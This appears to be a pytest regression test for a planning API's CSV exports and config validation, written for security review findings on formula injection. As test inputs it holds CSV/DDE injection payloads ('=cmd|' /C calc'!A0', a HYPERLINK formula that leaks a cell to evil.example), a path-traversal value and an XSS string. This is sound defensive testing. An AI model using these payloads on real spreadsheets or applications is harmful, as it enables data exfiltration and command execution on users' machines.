"""No text of a config runs as a formula or starts a row in a plan's CSVs (the security
review's F1): a config stored before team ids were checked, its team ids and name holding the
reviewer's payloads, is planned, and every table and the summary are downloaded and read with
Python's csv reader. Such team ids, and control characters in a name, are refused when sent,
by POST /v1/configs, a what-if and a sweep (F2)."""

from __future__ import annotations

import copy
import csv
import io
import json
from typing import Any

import httpx
import pytest

from api.plan_tables import PlanTable
from homeward import demo_config, planning, repository
from homeward.exports import FORMULA_STARTS, as_text
from homeward.storage import transaction
from tests.api.conftest import HORIZON_WEEKS, DemoDatabase

NAME = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
VERSION = "\r=2+2"
# a line break in the middle (a row of its own, =cmd in column A, before the writer quoted it),
# and formulas at the start
TEAMS = ["north\r=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=HYPERLINK("http://x/")']


def _with_payloads() -> dict[str, Any]:
    """The demo's config with the payloads in its team ids (rugby in a team of its own, north
    paid from its own budget) and its name and version, as a release without the checks
    stored it."""
    body = demo_config.demo_planning_config(horizon_periods=HORIZON_WEEKS)
    north, south = body["teams"]
    rugby = copy.deepcopy(north)
    north.update(id=TEAMS[0], revenue_budget_gbp_per_period=60_000.0)
    south["id"], rugby["id"] = TEAMS[1], TEAMS[2]
    body["teams"].append(rugby)
    for district in body["districts"]:
        district["team"] = {"north": TEAMS[0], "south": TEAMS[1]}[district["team"]]
        if district["id"] == "rugby":
            district["team"] = TEAMS[2]
    return {**body, "name": NAME, "version": VERSION}


@pytest.fixture(scope="module")
def plan_id(demo_db: DemoDatabase, planner: httpx.Client) -> int:
    body = _with_payloads()
    with transaction(demo_db.factory) as session:
        repository.save_config(session, body, planning.config_hash(body))
    response = planner.post("/v1/plans", json={})
    assert response.status_code == 201, response.text
    return int(response.json()["id"])


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", list(PlanTable), ids=[t.value for t in PlanTable])
def test_every_cell_of_every_table_is_the_json_text_and_none_is_a_formula(
    viewer: httpx.Client, plan_id: int, table: PlanTable
) -> None:
    response = viewer.get(f"/v1/plans/{plan_id}/{table.value}.csv")
    assert response.status_code == 200, response.text
    rows = viewer.get(f"/v1/plans/{plan_id}/{table.value}").json()
    header, *cells = _rows(response.text)
    assert len(cells) == len(rows)  # no row started inside a cell
    for row, written in zip(rows, cells, strict=True):
        assert len(written) == len(header)
        for name, cell in zip(header, written, strict=True):
            if isinstance(row.get(name), str):
                assert cell == as_text(row[name]), (name, cell)
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (name, cell)


def test_the_payloads_are_written_as_text(viewer: httpx.Client, plan_id: int) -> None:
    hours = _rows(viewer.get(f"/v1/plans/{plan_id}/hours.csv").text)
    teams = {row[hours[0].index("team")] for row in hours[1:]}
    assert teams == {TEAMS[0], "'" + TEAMS[1], "'" + TEAMS[2]}
    summary = {row[0]: row[1] for row in _rows(viewer.get(f"/v1/plans/{plan_id}/summary.csv").text)}
    assert summary["config_name"] == "'" + NAME and summary["config_version"] == "'" + VERSION
    by_budget = _rows(viewer.get(f"/v1/plans/{plan_id}/revenue_by_budget.csv").text)
    assert TEAMS[0] in {row[by_budget[0].index("budget")] for row in by_budget[1:]}


def test_a_negative_figure_stays_a_number(viewer: httpx.Client, plan_id: int) -> None:
    binding = _rows(viewer.get(f"/v1/plans/{plan_id}/binding.csv").text)
    duals = [row[binding[0].index("dual")] for row in binding[1:]]
    negative = [d for d in duals if d.startswith("-")]
    assert negative and all(float(d) < 0 for d in negative)


def _team_renamed(team_id: str) -> dict[str, Any]:
    body = demo_config.demo_planning_config(horizon_periods=HORIZON_WEEKS)
    body["teams"][0]["id"] = team_id
    for district in body["districts"]:
        if district["team"] == "north":
            district["team"] = team_id
    return body


SENT = {
    "config": ("/v1/configs", lambda c: c, "body/"),
    "what-if": ("/v1/plans", lambda c: {"config": c}, "body/config/"),
    "sweep": (
        "/v1/plans/sweeps",
        lambda c: {"config": c, "dfg_fee_rates": [0, 0.1]},
        "body/config/",
    ),
}


@pytest.mark.parametrize("sent", list(SENT))
@pytest.mark.parametrize(
    "team_id",
    ["../../south", "north\r=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "n" * 175],
    ids=["path", "carriage return", "markup", "175 characters"],
)
def test_a_team_id_that_cannot_name_a_series_is_refused_when_sent(
    admin: httpx.Client, sent: str, team_id: str
) -> None:
    path, wrap, at = SENT[sent]
    before = admin.get("/v1/configs/active").json()["id"]
    response = admin.post(path, json=wrap(_team_renamed(team_id)))
    assert response.status_code == 422, response.text
    [problem] = response.json()["problems"]
    assert problem["location"] == f"{at}teams/0/id"
    assert "at most 174 characters" in problem["expected"]
    long = f"{len(team_id)} characters ({json.dumps(team_id[:40])}...)"
    assert problem["found"] == (long if len(team_id) > 174 else json.dumps(team_id))
    assert admin.get("/v1/configs/active").json()["id"] == before


@pytest.mark.parametrize("sent", list(SENT))
@pytest.mark.parametrize("field", ["name", "version"])
def test_a_control_character_in_a_name_or_version_is_refused_when_sent(
    admin: httpx.Client, sent: str, field: str
) -> None:
    path, wrap, at = SENT[sent]
    body = {**demo_config.demo_planning_config(horizon_periods=HORIZON_WEEKS), field: "\t=1+1"}
    response = admin.post(path, json=wrap(body))
    assert response.status_code == 422, response.text
    [problem] = response.json()["problems"]
    assert problem == {
        "location": f"{at}{field}",
        "expected": "text without control characters",
        "found": '"\\t=1+1", holding "\\t"',
    }
